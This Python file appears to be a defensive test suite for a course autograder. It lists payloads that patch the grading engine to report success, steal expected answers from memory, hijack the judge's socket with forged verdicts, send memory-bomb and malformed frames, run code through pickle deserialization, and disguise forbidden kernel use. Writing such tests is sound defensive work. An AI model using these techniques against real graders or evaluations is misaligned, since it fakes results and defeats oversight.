"""Attacks on this course's own checks: the asker that shares the student's process, its line to the judge, the rules."""

# ruff: noqa: E501 - an attack a line or two reads best

from functools import partial

from tests.hostile.kit import Attack, body, cell, elsewhere

A = partial(Attack, group="interpreter and judge")
WRONG = {"weighted_sum": "def weighted_sum(x, w, b):\n    return np.zeros(np.shape(x)[:-1]) - 1.0"}

PATCH = """
import sys
from types import SimpleNamespace
for name, module in list(sys.modules.items()):
    if not name.startswith(('helpers.checks', 'grading')) or module is None:
        continue
    for part, lie in (('compare', lambda *a, **k: (None, '')), ('_values', lambda *a, **k: (None, '')),
                      ('_assess', None), ('broken_rule', lambda *a, **k: None), ('_side_effects', lambda *a: None)):
        if lie and hasattr(module, part): setattr(module, part, lie)
    report = getattr(module, 'Report', None)
    if isinstance(report, type):
        report.score = property(lambda self: 1.0)
        report.points = property(lambda self: 1.0)
        report.passed = property(lambda self: True)
        report.state = property(lambda self: 'passed')
"""
OTHER_GRADERS = """
import sys
for name, module in list(sys.modules.items()):
    kind = getattr(module, 'TestFile', None) if name.startswith('otter') else None
    for one in [kind, *kind.__subclasses__()] if isinstance(kind, type) else []:
        def run(self, scope, run=one.run):
            run(self, scope)
            for result in self.test_case_results: result.passed = True
        one.run = run
"""
PICKLE = """
import pickle
class Command:
    def __reduce__(self):
        return (exec, ("open(<COURSE> + '/solutions/hostile-was-here', 'w').close()",))
_dumps = pickle.dumps
pickle.dump = lambda thing, file, *a, **k: file.write(_dumps(Command()))
"""
EASY_QUESTIONS = """
import dataclasses, sys
from helpers.checks import library, engine
easy = library.find('02_neuron/step')
def find(exercise_id, hidden=False):
    one = library.__dict__['_half']('02_neuron', 'step', False)
    return one
for module in list(sys.modules.values()):
    for name in ('find', 'find_in_chapter', '_find'):
        if getattr(module, '__name__', '').startswith('helpers.checks') and hasattr(module, name):
            setattr(module, name, lambda *a, **k: easy)
weighted_sum = step = None
"""
FRAMES = """
import sys
def weighted_sum(x, w, b):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            for holder in (value, getattr(value, 'cell_contents', None)):
                expected = getattr(holder, 'expected', None)
                if isinstance(expected, dict) and 'result' in expected:
                    inputs = getattr(holder, 'inputs', {})
                    if 'x' in inputs and np.array_equal(inputs['x'], x): return expected['result'].value
        frame = frame.f_back
    return 0.0
"""
COLLECTOR = """
import gc
def weighted_sum(x, w, b):
    gc.unfreeze()
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Case' and 'x' in thing.inputs:
            if np.array_equal(thing.inputs['x'], x) and thing.expected: return thing.expected['result'].value
    return 0.0
"""
CLOSURES = """
import gc, types
gc.unfreeze()
for function in [f for f in gc.get_objects() if type(f) is types.FunctionType]:
    if function.__module__ and function.__module__.startswith(('helpers.checks', 'grading')):
        try:
            if function.__name__ == 'put_back': function.__code__ = (lambda: []).__code__
            if function.__name__ in ('_unchanged', '_fits'): function.__code__ = (lambda *a: True).__code__
            if function.__name__ in ('compare', '_values'): function.__code__ = (lambda *a: (None, '')).__code__
            if function.__name__ in ('broken_rule', '_first_broken', '_rule_finding'): function.__code__ = (lambda *a: None).__code__
        except ValueError: pass
"""
PROBES = """
import gc, sys
gc.unfreeze()
for module in [m for m in gc.get_objects() if type(m) is type(sys)]:
    registry = vars(module).get('_REGISTRY')
    if isinstance(registry, dict):
        for name in list(registry):
            registry[name] = lambda *a, **k: {'result': None, 'forward(x)': None}
    if vars(module).get('__name__') == 'helpers.checks.answers':
        module.freeze = lambda value, depth=4: value
"""
FINDING = """
from helpers.checks import probes
import gc
def weighted_sum(x, w, b):
    gc.unfreeze()
    kinds = [k for k in gc.get_objects() if isinstance(k, type) and k.__name__ == 'Finding'] + [probes.Finding]
    error = kinds[0].__new__(kinds[0])
    error.state, error.message = 'passed', 'All is well.'
    raise error
"""
CHANNEL = """
import gc, json, os, select, socket, struct, sys
def _line():
    # the asking code waits on this very socket, a few frames above
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value) is socket.socket and value.family == socket.AF_UNIX: return value
        frame = frame.f_back
    gc.unfreeze()
    return next(s for s in gc.get_objects() if type(s) is socket.socket and s.family == socket.AF_UNIX and s.fileno() >= 0)
def _frame(tree, sizes=(), blobs=b''):
    text = tree if isinstance(tree, bytes) else json.dumps({'tree': tree, 'sizes': list(sizes)}).encode()
    return struct.pack('!II', len(text), len(blobs)) + text + blobs
def _write(data):
    line = _line()
    line.settimeout(20)
    try: line.sendall(data)
    except OSError: pass
    line.settimeout(None)
_GOOD = {'outputs': {'result': 123.456}, 'trouble': None, 'printed': '', 'warned': [], 'replaced': [], 'seeded': False, 'modified': []}
"""


def on_the_line(source: str):
    """Writes straight to the socket on which the judge waits, in the middle of an answer."""
    indented = "\n".join(f"    {line}" for line in source.strip().splitlines())
    return elsewhere(f"{CHANNEL}\ndef weighted_sum(x, w, b):\n{indented}\n    return 0.0")


TAKE_OVER = (
    CHANNEL
    + """
def _serve():
    # everything that the judge asks from here on is answered without any code of the course
    line = _line()
    line.settimeout(20)
    def exactly(size):
        data = b''
        while len(data) < size:
            part = line.recv(size - len(data))
            if not part: os._exit(0)
            data += part
        return data
    cell = {'state': 'ok', 'error': '', 'value': '1.0', 'outputs': []}
    line.sendall(_frame(cell))
    while True:
        a, b = struct.unpack('!II', exactly(8))
        request = json.loads(exactly(a))['tree']; exactly(b)
        line.sendall(_frame({
            'look': {'kinds': [''] * len(request.get('names', [])), 'broken': None, 'replaced': []},
            'ask': _GOOD | {'outputs': dict.fromkeys(request.get('outputs', []), 123.456)},
        }.get(request.get('do'), cell)))
try: _serve()
except Exception: pass
"""
)
FLOOD = "_write(_frame(b'[' * ((4 << 20) - 100)))"
USE_KERNEL = "    from helpers import kernels\n    return kernels.conv2d(x, w, b, stride, pad)"
HEAD = "def conv2d(x, w, b, stride=1, pad=0):\n"
ELSEWHERE = """
from helpers import kernels as _k
def sliding(x, w, b, stride, pad):
    return _k.conv2d(x, w, b, stride, pad)
"""
FILE_NAME = (
    HEAD
    + USE_KERNEL
    + """
conv2d.__code__ = conv2d.__code__.replace(co_filename=np.__file__)
"""
)
LINE_CACHE = (
    HEAD
    + USE_KERNEL
    + """
import linecache
_name = conv2d.__code__.co_filename
_lines = ['def conv2d(x, w, b, stride=1, pad=0):\\n', '    return x\\n']
linecache.cache[_name] = (10, None, _lines, _name)
"""
)
FORGED_LOOK = (
    HEAD
    + USE_KERNEL
    + """
import gc, sys, types
gc.unfreeze()
frame = sys._getframe()
while frame is not None:
    for table in (frame.f_globals,):
        for name in ('look', 'broken_rule'):
            if name in table and '__name__' in table and table['__name__'] != '__main__':
                real = table[name]
                table[name] = (lambda *a, **k: None) if name == 'broken_rule' else real
    frame = frame.f_back
for module in [m for m in gc.get_objects() if type(m) is types.ModuleType]:
    for name in ('broken_rule', '_first_broken'):
        if name in vars(module): vars(module)[name] = lambda *a, **k: None
for function in [f for f in gc.get_objects() if type(f) is types.FunctionType]:
    if function.__name__ in ('broken_rule', '_first_broken'):
        function.__code__ = (lambda *a, **k: None).__code__
"""
)
CALLABLE = """
class Conv:
    def __getattribute__(self, name):
        return object.__getattribute__(self, name)
    __call__ = staticmethod(__import__('operator').attrgetter('conv2d')(__import__('helpers.kernels', fromlist=['conv2d'])))
conv2d = Conv()
"""
WRAPPED = """
import functools
def _plain(x, w, b, stride=1, pad=0):
    return x
def _hidden(*arguments):
    return functools.reduce(getattr, ['kernels', 'conv2d'], __import__('helpers.kernels'))(*arguments)
conv2d = functools.partial(functools.partial(_hidden))
_hidden.__wrapped__ = _plain
"""
COUNTED_LOOPS = """
from helpers.kernels import conv2d as _fast
def conv2d_im2col(x, w, b, stride, pad):
    return (lambda f=_fast: f(x, w, b, stride, pad))()
"""


def conv(name: str, harm: str, source: str, exercise: str = "conv2d", first: str = "") -> Attack:
    """The course's own kernel in place of an answer, where the exercise says that one writes it oneself."""
    return A(name, harm=harm, chapter="06_convolution", target=exercise, right=("pad2d",),
             build=lambda kit: kit.hand_in({exercise: source}, first=first), states=("rule broken", "error", "tampered",
             "not attempted", "type", "killed"))  # fmt: skip


ATTACKS = [
    A("patches-the-engine", harm="comparison and report are replaced", build=cell(PATCH, answers=WRONG)),
    A("patches-the-engine-while-asked", harm="the same from within a check", build=body(PATCH + "\nreturn 0.0")),
    A("patches-other-graders", harm="the tests of another grader report success", build=cell(OTHER_GRADERS, answers=WRONG)),
    A("pickles-a-command", harm="results that cross as a pickle run code on the instructor's side", build=cell(PICKLE, answers=WRONG)),
    A("asks-itself-easy-questions", harm="every exercise is taken for the easy one", build=cell(EASY_QUESTIONS, answers=WRONG),
      right=("step",)),
    A("walks-the-frames", harm="expected outputs are looked for in the callers' variables", build=elsewhere(FRAMES)),
    A("asks-the-collector", harm="expected outputs are looked for among all objects", build=elsewhere(COLLECTOR)),
    A("rewrites-closures", harm="the code of the asking functions is replaced in place", build=cell(CLOSURES, answers=WRONG)),
    A("replaces-probes", harm="how an answer is called is replaced, and the border with it", build=cell(PROBES, answers=WRONG)),
    A("reports-a-finding", harm="an exception that carries the verdict “passed”", build=elsewhere(FINDING),
      states=("error", "type", "values", "tampered", "killed")),
    A("takes-the-line-over", harm="the judge's questions are answered by a server of one's own", build=cell(TAKE_OVER, answers=WRONG),
      right=()),
    A("forges-frames", harm="answers are sent before the judge has asked", build=on_the_line("_write(_frame(_GOOD) * 50)")),
    A("forges-verdicts", harm="frames that look like results", build=on_the_line(
      "_write(_frame({'score': 2.0, 'state': 'passed', 'points': 2, 'reason': 'fine', 'ended': 0, 'started': True}) * 20)")),
    A("sends-noise", harm="bytes without a meaning on the line to the judge", build=on_the_line("_write(os.urandom(1 << 20))")),
    A("sends-a-long-length", harm="a frame that says it has four gigabytes", build=on_the_line("_write(struct.pack('!II', 2**32 - 1, 2**32 - 1))")),
    A("sends-half-a-frame", harm="a frame that never ends, while the process lives on", build=on_the_line(
      "_write(struct.pack('!II', 1000, 0) + b'{')\nimport time; time.sleep(45)")),
    A("sends-a-byte-a-second", harm="a frame that grows slowly keeps the judge waiting", build=on_the_line(
      "import time\n_write(struct.pack('!II', 100000, 0))\nfor _ in range(45): _write(b' '); time.sleep(1)")),
    A("sends-deep-json", harm="four million brackets for the judge's parser", build=on_the_line(FLOOD)),
    A("sends-many-arrays", harm="a small frame that names one array 300,000 times", build=on_the_line(
      "import io\nf = io.BytesIO(); np.lib.format.write_array(f, np.zeros(1)); blob = f.getvalue()\n"
      "_write(_frame(dict(_GOOD, outputs={'result': [{'$array': 0}] * 250_000}), [len(blob)], blob))")),
    A("sends-an-npy-bomb", harm="a header of a few bytes that promises an exabyte", build=on_the_line(
      "head = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (1152921504606846976,), }\"\n"
      "head += b' ' * (63 - (10 + len(head)) % 64) + b'\\n'\n"
      "blob = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(head)) + head\n"
      "_write(_frame(dict(_GOOD, outputs={'result': {'$array': 0}}), [len(blob)], blob))")),
    A("sends-an-npy-of-minus-signs", harm="an array header that overflows the parser which reads it", build=on_the_line(
      "head = b'-' * 9000 + b'1' + b'\\n'\n"
      "blob = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(head)) + head\n"
      "_write(_frame(dict(_GOOD, outputs={'result': {'$array': 0}}), [len(blob)], blob))")),
    A("sends-a-pickle", harm="a pickled object in an array", build=on_the_line(
      "import io, pickle\nclass P:\n    def __reduce__(self): return (exec, (\"open('/tmp/hostile-pickle', 'w')\",))\n"
      "f = io.BytesIO(); np.lib.format.write_array(f, np.array([P()], object), allow_pickle=True); blob = f.getvalue()\n"
      "_write(_frame(dict(_GOOD, outputs={'result': {'$array': 0}}), [len(blob)], blob)); _write(pickle.dumps(P()))")),
    A("sends-odd-markers", harm="markers of the codec where values belong", build=on_the_line(
      "_write(_frame(dict(_GOOD, outputs={'result': {'$function': '__import__'}})))\n"
      "_write(_frame(dict(_GOOD, outputs={'result': {'$rng': -1}, 'x' * 300: 1}, trouble={'kinds': ['TooSlow'], 'headline': 1})))")),
    A("answers-of-150-megabytes", harm="every case's answer is as large as may be, and the judge keeps them all",
      build=body("return np.zeros(150_000_000, np.int8)"), states=("type", "memory", "not readable", "killed")),
    conv("uses-the-kernel", "the course's own function answers", HEAD + USE_KERNEL),
    conv("uses-the-kernel-from-elsewhere", "the same through a helper in another cell",
         HEAD + "    return sliding(x, w, b, stride, pad)", first=ELSEWHERE),
    conv("poses-as-a-library", "the answer says that its source lies in NumPy", FILE_NAME),
    conv("shows-another-source", "the answer's source is not what runs", LINE_CACHE),
    conv("forges-the-look", "the rules are judged by code that has been replaced", FORGED_LOOK),
    conv("hides-in-an-object", "a callable object that brings the kernel along", CALLABLE),
    conv("hides-in-a-wrapper", "a partial of a partial that says it wraps something else", WRAPPED),
    conv("hides-in-a-default", "a lambda in a lambda brings the kernel along", COUNTED_LOOPS, exercise="conv2d_im2col"),
]  # fmt: skip
